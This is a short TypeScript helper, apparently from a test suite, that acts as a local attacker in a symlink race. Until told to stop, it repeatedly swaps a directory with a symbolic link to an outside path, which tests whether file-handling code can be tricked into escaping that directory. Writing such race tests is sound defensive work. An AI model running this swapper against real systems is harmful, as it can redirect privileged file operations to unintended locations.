// A local attacker: puts a link to OUTSIDE in the place of the directory DIR and the directory back, until it is told to end.
import { renameSync, symlinkSync, unlinkSync } from 'node:fs'

const [dir = '', outside = ''] = process.argv.slice(2)
let ended = false
process.stdin.on('end', () => {
  ended = true
})
process.stdin.resume()
process.stdout.write('ready\n')

function swap(): void {
  for (let i = 0; i < 50; i++) {
    renameSync(dir, `${dir}.real`)
    symlinkSync(outside, dir)
    unlinkSync(dir)
    renameSync(`${dir}.real`, dir)
  }
  if (!ended) setImmediate(swap)
}
swap()
